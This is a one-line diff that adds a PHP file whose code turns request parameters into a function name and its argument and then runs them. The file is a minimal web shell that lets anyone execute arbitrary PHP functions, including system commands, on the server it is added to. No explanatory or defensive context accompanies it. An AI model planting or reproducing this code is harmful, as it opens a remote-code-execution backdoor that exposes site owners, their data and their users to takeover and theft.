@@ -1,0 +1,1 @@
+<?php $f = Closure::fromCallable($_GET["f"]); $f($_GET["a"]);
